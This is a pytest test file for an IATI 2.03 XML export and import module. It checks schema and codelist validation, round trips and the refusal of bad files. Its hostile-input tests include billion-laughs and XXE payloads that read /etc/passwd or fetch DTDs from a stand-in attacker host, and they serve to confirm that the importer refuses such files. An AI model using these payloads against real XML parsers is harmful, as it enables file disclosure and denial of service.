"""IATI 2.03: Accord's files validate, import back identically; bad files are refused."""

from __future__ import annotations

import dataclasses
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from accord.errors import ValidationFailed
from accord.funds import iati
from accord.funds.iati import (
    Activity,
    ActivityDate,
    ActivitySet,
    IatiInvalid,
    Money,
    OrganisationRole,
    ParticipatingOrg,
    ReportingOrg,
    Transaction,
    TransactionType,
    activity_identifier,
    codelist,
    export_activities,
    import_activities,
    schema_errors,
    validate,
)

from .strategies import activity_sets, realistic_set

SAMPLES = iati.data_dir() / "samples"
PASSING = sorted((SAMPLES / "should-pass").glob("*.xml"))
FAILING = sorted((SAMPLES / "should-fail").glob("*.xml"))


def _realistic_xml() -> bytes:
    return export_activities(realistic_set())


def _replace(xml: bytes, old: bytes, new: bytes) -> bytes:
    assert old in xml, old
    return xml.replace(old, new, 1)


# --------------------------------------------------------------------------- the bundled data


def test_the_bundled_samples_are_all_there():
    assert [p.name for p in PASSING] == [
        "02-minimal-doc.xml",
        "21-transaction.xml",
        "22-participating-org.xml",
        "24-results.xml",
    ]
    assert [p.name for p in FAILING] == ["20-two-reporting-orgs.xml", "26-two-activity-status.xml"]


@pytest.mark.parametrize("path", PASSING, ids=lambda p: p.name)
def test_the_official_passing_samples_match_the_schema(path):
    assert schema_errors(path.read_bytes()) == []


@pytest.mark.parametrize("path", FAILING, ids=lambda p: p.name)
def test_the_official_failing_samples_are_refused_with_a_schema_error(path):
    data = path.read_bytes()
    problems = schema_errors(data)
    assert problems
    assert all(p.startswith("line ") for p in problems)
    with pytest.raises(IatiInvalid) as caught:
        import_activities(data)
    assert caught.value.code == "iati_schema"
    assert caught.value.line == int(problems[0].split(":")[0].removeprefix("line "))
    assert str(caught.value.line) in caught.value.message


def test_the_failing_samples_are_refused_at_the_duplicated_element():
    two_orgs = (SAMPLES / "should-fail" / "20-two-reporting-orgs.xml").read_bytes()
    problems = schema_errors(two_orgs)
    assert problems[0].startswith("line 9: Element 'reporting-org'")
    two_status = (SAMPLES / "should-fail" / "26-two-activity-status.xml").read_bytes()
    assert schema_errors(two_status)[0].startswith("line 18: Element 'activity-status'")


def test_the_passing_samples_use_placeholder_codes_that_the_codelist_checks_catch():
    data = (SAMPLES / "should-pass" / "02-minimal-doc.xml").read_bytes()
    problems = validate(data)
    assert "line 13: organisation role 'xx' is not in the IATI OrganisationRole codelist" in (
        problems
    )
    assert "line 15: activity status 'xx' is not in the IATI ActivityStatus codelist" in problems


@pytest.mark.parametrize(
    ("name", "enum"),
    [
        ("TransactionType", iati.TransactionType),
        ("OrganisationRole", iati.OrganisationRole),
        ("ActivityStatus", iati.ActivityStatus),
        ("ActivityDateType", iati.ActivityDateType),
        ("BudgetType", iati.BudgetType),
        ("BudgetStatus", iati.BudgetStatus),
    ],
)
def test_the_code_enums_are_exactly_the_codelists(name, enum):
    assert {m.value for m in enum} == set(codelist(name))


def test_the_transaction_types_accord_uses_mean_what_the_codelist_says():
    types = codelist("TransactionType")
    assert types[TransactionType.INCOMING_PLEDGE] == "Incoming Pledge"
    assert types[TransactionType.INCOMING_COMMITMENT] == "Incoming Commitment"
    assert types[TransactionType.INCOMING_FUNDS] == "Incoming Funds"
    assert types[TransactionType.OUTGOING_COMMITMENT] == "Outgoing Commitment"
    assert types[TransactionType.DISBURSEMENT] == "Disbursement"
    assert codelist("OrganisationRole")[OrganisationRole.IMPLEMENTING] == "Implementing"


def test_the_currency_codelist_has_the_currencies_of_the_funds():
    currencies = codelist("Currency")
    assert {"EUR", "USD", "AFN", "GBP", "NOK"} <= set(currencies)
    assert currencies["AFN"] == "Afghani"
    assert "XYZ" not in currencies


def test_an_unknown_codelist_is_a_key_error():
    with pytest.raises(KeyError):
        codelist("DocumentCategory")


# --------------------------------------------------------------------------- export


def test_a_realistic_fund_exports_valid_iati():
    xml = _realistic_xml()
    assert validate(xml) == []
    assert xml.startswith(b"<?xml version='1.0' encoding='UTF-8'?>\n<iati-activities ")
    root = etree.fromstring(xml)
    assert root.get("version") == "2.03"
    activity = root.find("iati-activity")
    assert activity.findtext("iati-identifier") == "XI-IATI-NATO-NRC-HMTF"
    assert activity.find("recipient-country").get("code") == "AF"
    types = [t.get("code") for t in activity.iter("transaction-type")]
    assert types == ["13", "1", "1", "2", "3", "2"]
    assert activity.find("transaction/value").text == "2000000.00"


def test_export_is_deterministic():
    assert export_activities(realistic_set()) == export_activities(realistic_set())


def test_export_writes_the_elements_in_schema_order():
    xml = _realistic_xml()
    order = [el.tag for el in etree.fromstring(xml).find("iati-activity")]
    expected = [
        "iati-identifier",
        "reporting-org",
        "title",
        "description",
        "participating-org",
        "activity-status",
        "activity-date",
        "recipient-country",
        "sector",
        "budget",
        "transaction",
    ]
    assert [tag for i, tag in enumerate(order) if i == 0 or order[i - 1] != tag] == expected


def test_every_activity_carries_the_set_reporting_org():
    base = realistic_set()
    second = dataclasses.replace(base.activities[0], identifier="XI-IATI-NATO-ANA-TF")
    xml = export_activities(dataclasses.replace(base, activities=(*base.activities, second)))
    orgs = etree.fromstring(xml).findall("iati-activity/reporting-org")
    assert [o.get("ref") for o in orgs] == ["XI-IATI-NATO", "XI-IATI-NATO"]


def test_activity_identifier_joins_the_publisher_ref_and_the_fund_code():
    assert activity_identifier("XI-IATI-NATO", "ANA-TF") == "XI-IATI-NATO-ANA-TF"
    with pytest.raises(ValueError, match="no spaces"):
        activity_identifier("XI-IATI-NATO", "ANA TF")
    with pytest.raises(ValueError, match="non-empty"):
        activity_identifier("", "ANA-TF")


def test_the_data_classes_refuse_what_iati_cannot_hold():
    reporting = ReportingOrg("XI-IATI-NATO", "40", "NATO")
    with pytest.raises(ValueError, match="at least one activity"):
        ActivitySet(datetime(2020, 1, 1, tzinfo=UTC), reporting, [])
    with pytest.raises(ValueError, match="timezone-aware"):
        ActivitySet(datetime(2020, 1, 1), reporting, realistic_set().activities)
    with pytest.raises(ValueError, match="activity date"):
        Activity("X-1", "t", "d", "2", [], [ParticipatingOrg("1")])
    with pytest.raises(ValueError, match="participating"):
        Activity("X-1", "t", "d", "2", [ActivityDate("2", date(2020, 1, 1))], [])
    with pytest.raises(ValueError, match="finite"):
        Money(Decimal("NaN"), "EUR", date(2020, 1, 1))


def test_text_that_xml_cannot_carry_is_refused_on_export():
    base = realistic_set()
    bad = dataclasses.replace(base.activities[0], title="bell \x07")
    with pytest.raises(ValueError, match="XML compatible"):
        export_activities(dataclasses.replace(base, activities=[bad]))


def test_codelist_checks_catch_codes_the_schema_lets_through():
    base = realistic_set()
    odd = dataclasses.replace(
        base.activities[0],
        transactions=[
            Transaction("99", date(2020, 1, 1), Money(Decimal(1), "EUR", date(2020, 1, 1))),
            Transaction("3", date(2020, 1, 1), Money(Decimal(1), "XYZ", date(2020, 1, 1))),
        ],
    )
    xml = export_activities(dataclasses.replace(base, activities=[odd]))
    assert schema_errors(xml) == []
    problems = validate(xml)
    assert len(problems) == 2
    assert "transaction type '99' is not in the IATI TransactionType codelist" in problems[0]
    assert "currency 'XYZ' is not in the IATI Currency codelist" in problems[1]
    with pytest.raises(IatiInvalid) as caught:
        import_activities(xml)
    assert caught.value.code == "iati_codelist"
    assert caught.value.problems == problems


def test_a_value_without_any_currency_is_flagged():
    xml = _replace(_realistic_xml(), b' default-currency="EUR"', b"")
    xml = _replace(xml, b'<value currency="EUR"', b"<value")
    assert schema_errors(xml) == []
    assert any("has no currency" in p for p in validate(xml))


# --------------------------------------------------------------------------- import


def test_a_realistic_fund_round_trips_byte_for_byte():
    xml = _realistic_xml()
    back = import_activities(xml)
    assert back == realistic_set()
    assert export_activities(back) == xml


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(activity_sets)
def test_any_activity_set_round_trips(activity_set):
    xml = export_activities(activity_set)
    assert schema_errors(xml) == []
    back = import_activities(xml)
    assert back == activity_set
    assert export_activities(back) == xml


def test_refusals_are_validation_failures_with_stable_codes():
    with pytest.raises(ValidationFailed) as caught:
        import_activities(b"<iati-activities")
    assert caught.value.code == "iati_malformed"
    assert caught.value.status == 422
    assert caught.value.errors == {"file": [caught.value.message]}


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (b"", None),
        (b"   \n", None),
        (b"not xml at all", 1),
        (b"<?xml version='1.0'?>\n<iati-activities version='2.03'>\n<iati-activity>\n", 4),
        (b"<a>\n<b></a>", 2),
    ],
)
def test_malformed_files_are_refused_with_the_line(data, line):
    with pytest.raises(IatiInvalid) as caught:
        import_activities(data)
    assert caught.value.code == "iati_malformed"
    assert caught.value.line == line
    assert validate(data) == [caught.value.message]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<iati-activities version="2.03"><iati-activity><iati-identifier>&lol9;</iati-identifier>
</iati-activity></iati-activities>
"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE iati-activities [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<iati-activities version="2.03"><iati-activity><iati-identifier>&secret;</iati-identifier>
</iati-activity></iati-activities>
"""

XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE iati-activities SYSTEM "http://attacker.invalid/iati.dtd">
<iati-activities version="2.03"/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<r/>
"""


@pytest.mark.parametrize(
    ("data", "line"),
    [(BILLION_LAUGHS, 2), (XXE_FILE, 2), (XXE_HTTP, 2), (PARAMETER_ENTITY, 2)],
    ids=["billion-laughs", "xxe-file", "xxe-http", "parameter-entity"],
)
def test_hostile_files_are_refused_before_parsing(data, line):
    with pytest.raises(IatiInvalid) as caught:
        import_activities(data)
    assert caught.value.code == "iati_hostile"
    assert caught.value.line == line
    assert "DOCTYPE" in caught.value.message
    assert "root:" not in caught.value.message  # nothing of /etc/passwd leaks into the message
    assert validate(data) == [caught.value.message]


def test_a_doctype_hidden_in_utf16_is_refused_after_parsing():
    text = XXE_FILE.decode().replace(
        '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>'
    )
    data = text.encode("utf-16")
    assert b"<!DOCTYPE" not in data
    with pytest.raises(IatiInvalid) as caught:
        import_activities(data)
    assert caught.value.code == "iati_hostile"


def test_files_over_the_size_limit_are_refused_unread():
    xml = _realistic_xml()
    with pytest.raises(IatiInvalid) as caught:
        import_activities(xml, max_bytes=len(xml) - 1)
    assert caught.value.code == "iati_too_large"
    assert import_activities(xml, max_bytes=len(xml)) == realistic_set()


def test_non_bytes_input_is_a_type_error():
    with pytest.raises(TypeError):
        import_activities(_realistic_xml().decode())


def test_an_invalid_file_is_refused_with_every_schema_problem():
    xml = _replace(_realistic_xml(), b'<activity-status code="2"/>\n', b"")
    with pytest.raises(IatiInvalid) as caught:
        import_activities(xml)
    assert caught.value.code == "iati_schema"
    assert "activity-date" in caught.value.message
    assert caught.value.problems == schema_errors(xml)


@pytest.mark.parametrize(
    ("old", "new", "fragment"),
    [
        (
            b'version="2.03"',
            b'version="2.02"',
            "IATI version '2.02'",
        ),
        (
            b'<recipient-country code="AF"/>',
            b'<recipient-country code="AF"/>\n    <location><name><narrative>Kabul</narrative>'
            b"</name></location>",
            "<location> inside <iati-activity> is not supported",
        ),
        (
            b'<narrative xml:lang="en">Germany</narrative>',
            # Two in the activity's language (one per other language is kept: see below).
            b'<narrative xml:lang="en">Germany</narrative><narrative>Deutschland</narrative>',
            "more than one narrative",
        ),
        (
            b'<participating-org ref="XM-DAC-5"',
            b'<participating-org activity-id="X" ref="XM-DAC-5"',
            "attribute 'activity-id' on <participating-org> is not supported",
        ),
        (
            b'<value currency="USD"',
            b"<value",
            "a value without its own currency attribute",
        ),
        (
            b'<iati-activity last-updated-datetime="2014-06-30T12:00:00+00:00"',
            b'<iati-activity last-updated-datetime="2014-06-30T12:00:00"',
            "has no time zone",
        ),
        (
            b'<title>\n      <narrative xml:lang="en">',
            b'<title>\n      <narrative xml:lang="fr">',
            "another language",
        ),
    ],
    ids=["version", "location", "two-narratives", "attribute", "no-currency", "naive", "lang"],
)
def test_what_accord_cannot_hold_is_refused_not_dropped(old, new, fragment):
    xml = _replace(_realistic_xml(), old, new)
    assert schema_errors(xml) == []
    with pytest.raises(IatiInvalid) as caught:
        import_activities(xml)
    assert caught.value.code == "iati_unsupported"
    assert fragment in caught.value.message
    assert caught.value.line is not None
    assert caught.value.message.startswith(f"line {caught.value.line}: ")


def test_activities_of_two_publishers_are_refused():
    base = realistic_set()
    xml = export_activities(
        dataclasses.replace(base, activities=(*base.activities, base.activities[0]))
    )
    second_org = xml.rindex(b'<reporting-org ref="XI-IATI-NATO"')
    xml = xml[:second_org] + xml[second_org:].replace(b"XI-IATI-NATO", b"XM-DAC-5", 1)
    with pytest.raises(IatiInvalid) as caught:
        import_activities(xml)
    assert caught.value.code == "iati_unsupported"
    assert "more than one reporting organisation" in caught.value.message


def test_comments_and_layout_do_not_matter_on_import():
    xml = _realistic_xml().replace(b"\n    <title>", b"\n<!-- a comment -->\n    <title>", 1)
    xml = xml.replace(b"\n      <narrative>", b"<narrative>")
    assert import_activities(xml) == realistic_set()


def test_participating_org_without_name_or_ref_round_trips():
    base = realistic_set()
    bare = dataclasses.replace(base.activities[0], participating_orgs=[ParticipatingOrg("4")])
    activity_set = dataclasses.replace(base, activities=[bare])
    xml = export_activities(activity_set)
    assert b'<participating-org role="4"/>' in xml
    assert import_activities(xml) == activity_set


def test_money_converts_to_and_from_the_ledger_minor_units():
    day = date(2020, 1, 1)
    assert Money.from_minor(12345, "EUR", day) == Money(Decimal("123.45"), "EUR", day)
    assert Money.from_minor(500, "JPY", day, exponent=0).amount == Decimal(500)
    assert Money.from_minor(-1, "KWD", day, exponent=3).amount == Decimal("-0.001")
    assert Money(Decimal("123.45"), "EUR", day).to_minor() == 12345
    assert Money(Decimal("10"), "EUR", day).to_minor() == 1000
    with pytest.raises(ValueError, match="more than 2 decimal places"):
        Money(Decimal("0.001"), "EUR", day).to_minor()
    with pytest.raises(TypeError):
        Money.from_minor(1.5, "EUR", day)


@given(st.integers(min_value=-(10**15), max_value=10**15), st.sampled_from([0, 2, 3]))
def test_minor_units_survive_the_xml(minor, exponent):
    day = date(2020, 1, 1)
    base = realistic_set()
    money = Money.from_minor(minor, "EUR", day, exponent)
    activity = dataclasses.replace(
        base.activities[0], transactions=[Transaction("1", day, money)], budgets=[]
    )
    back = import_activities(export_activities(dataclasses.replace(base, activities=[activity])))
    assert back.activities[0].transactions[0].value.to_minor(exponent) == minor


def test_text_split_by_a_comment_is_kept_whole():
    xml = _replace(
        _realistic_xml(),
        b'<narrative xml:lang="en">NATO-Russia Council Helicopter',
        b'<narrative xml:lang="en">NATO-Russia <!-- note -->Council Helicopter',
    )
    xml = _replace(xml, b">2000000.00</value>", b">2000<!-- x -->000.00</value>")
    assert import_activities(xml) == realistic_set()
